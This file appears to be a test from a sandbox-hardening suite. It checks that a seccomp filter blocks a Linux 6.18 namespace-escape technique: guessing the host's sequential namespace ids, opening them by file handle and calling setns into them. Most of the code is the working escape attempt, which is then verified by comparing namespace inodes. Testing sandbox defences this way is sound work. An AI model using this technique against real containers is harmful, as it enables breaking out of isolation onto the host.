/* ESC-09 nsfs-handle: since Linux 6.18 namespaces have file handles
 * (FILEID_NSFS, opened relative to FD_NSFS_ROOT), and their ids are small
 * and sequential: from the handle of our own namespace, guess the host's
 * by decrementing the id, open it by handle and setns into it
 * (tools/testing/selftests/namespaces/file_handle_test.c).  The filter
 * forbids name_to_handle_at, open_by_handle_at and setns: EPERM for every
 * namespace type, and our namespaces are the same afterwards. */
#include "attack.h"

#include <fcntl.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/stat.h>

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#define NSIO 0xb7
#define NS_GET_ID _IOR(NSIO, 0xd, unsigned long long) /* Linux 6.18 */
#define FILEID_NSFS 0xf1
#define FD_NSFS_ROOT (-10003)

struct handle {
	unsigned int handle_bytes;
	int handle_type;
	struct {
		unsigned long long ns_id;
		unsigned int ns_type;
		unsigned int ns_inum;
	} nsfs;
};

static const struct {
	const char *name;
	unsigned int type;
} spaces[] = {
	{"net", CLONE_NEWNET},	     {"mnt", CLONE_NEWNS},
	{"pid", CLONE_NEWPID},	     {"user", CLONE_NEWUSER},
	{"uts", CLONE_NEWUTS},	     {"ipc", CLONE_NEWIPC},
	{"cgroup", CLONE_NEWCGROUP}, {"time", CLONE_NEWTIME},
};
#define N_SPACES (sizeof(spaces) / sizeof(spaces[0]))

int main(void)
{
	char name[96], path[64];
	ino_t before[N_SPACES] = {0};
	for (size_t i = 0; i < N_SPACES; i++) {
		snprintf(path, sizeof(path), "/proc/self/ns/%s",
			 spaces[i].name);
		struct stat st;
		if (stat(path, &st) == 0)
			before[i] = st.st_ino;
		int fd = open(path, O_RDONLY);
		if (fd < 0) {
			note("%s: %s", path, strerrorname_np(errno));
			continue;
		}
		/* step 1: the handle of our own namespace */
		struct handle h = {.handle_bytes = sizeof(h.nsfs)};
		int mount_id;
		snprintf(name, sizeof(name), "name-to-handle-%s",
			 spaces[i].name);
		TRY(name, syscall(SYS_name_to_handle_at, fd, "", &h, &mount_id,
				  AT_EMPTY_PATH));
		/* step 2: its id (an allowed ioctl on an fd we hold), and the
		 * guesses below it */
		unsigned long long id = 0;
		if (ioctl(fd, NS_GET_ID, &id) == 0)
			note("%s namespace id %llu, inode %lu", spaces[i].name,
			     id, (unsigned long)before[i]);
		/* step 3: open the guesses by handle (the three ids below ours,
		 * and the first ids, those of the initial namespaces), setns
		 * into what opens */
		unsigned long long guesses[] = {id - 1, id - 2, id - 3,
						1,	2,	3};
		for (size_t k = id > 3 ? 0 : 3; k < 6; k++) {
			struct handle g = {.handle_bytes = sizeof(g.nsfs),
					   .handle_type = FILEID_NSFS,
					   .nsfs = {.ns_id = guesses[k],
						    .ns_type = spaces[i].type}};
			snprintf(name, sizeof(name),
				 "payoff-open-by-handle-%s-%s%zu",
				 spaces[i].name, k < 3 ? "below" : "id",
				 k < 3 ? k + 1 : k - 2);
			long ns =
				TRY(name, syscall(SYS_open_by_handle_at,
						  FD_NSFS_ROOT, &g, O_RDONLY));
			if (ns >= 0) {
				snprintf(name, sizeof(name),
					 "payoff-setns-%s-guess%zu",
					 spaces[i].name, k);
				TRY(name, setns((int)ns, 0));
				close((int)ns);
			}
		}
		/* and setns into our own: nothing to gain, still refused */
		snprintf(name, sizeof(name), "setns-own-%s", spaces[i].name);
		TRY(name, setns(fd, 0));
		close(fd);
	}
	for (size_t i = 0; i < N_SPACES; i++) {
		snprintf(path, sizeof(path), "/proc/self/ns/%s",
			 spaces[i].name);
		struct stat st;
		if (stat(path, &st) == 0 && st.st_ino != before[i])
			escaped("the %s namespace changed", spaces[i].name);
	}
	done();
	return 0;
}
